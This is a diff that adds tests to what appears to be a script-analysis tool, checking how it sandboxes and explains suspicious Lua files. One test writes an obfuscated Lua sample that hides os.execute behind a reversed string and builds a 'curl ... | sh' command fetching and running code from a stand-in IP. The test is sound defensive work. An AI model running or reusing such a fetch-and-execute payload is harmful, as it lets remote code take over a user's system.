@@ -11,6 +11,7 @@ from pathlib import Path
 import jsonschema
 import pytest
 
+from perilune.analysis.lua import cage
 from perilune.cli.analyze import SCRIPTS, _lists, is_list
 from perilune.cli.analyze_lua import explain, wants
 from perilune.cli.analyze_output import dump
@@ -140,3 +141,29 @@ def test_what_is_listed_counts(tmp_path: Path) -> None:
 def test_which_files_are_explained_as_lua(data: bytes, name: str, expected: bool) -> None:
     known = SCRIPTS.get(Path(name).suffix, "")
     assert wants(data, name, known, lambda: is_list(data.decode("latin-1"))) is expected
+
+
+def test_lua_is_run_by_default_where_the_cage_shuts_and_says_so_where_not(tmp_path: Path) -> None:
+    ready, why = cage.available()
+    script = tmp_path / "x.log"
+    script.write_text(
+        "local part = string.reverse('etucexe') local o = os\n"
+        "local c = 'cu' .. 'rl http://203.0.113.9/a | sh'\no[part](c)\n"
+    )
+    done = perilune("analyze", script)
+    shown = done.stdout.decode()
+    if ready:
+        assert done.returncode == 1, done.stderr
+        assert "Run in the cage: explained" in shown
+        assert "What it did when it was run" in shown
+    else:
+        assert done.returncode == 3
+        assert why in shown and "Not run:" in shown
+    assert "os.execute" in shown
+
+
+def test_at_80_columns_nothing_is_wider(tmp_path: Path) -> None:
+    script = tmp_path / "x.lua"
+    script.write_bytes(DROPPER)
+    done = perilune("analyze", "--no-exec", "--deep", script, columns=80)
+    assert max(map(len, done.stdout.decode().splitlines())) <= 80
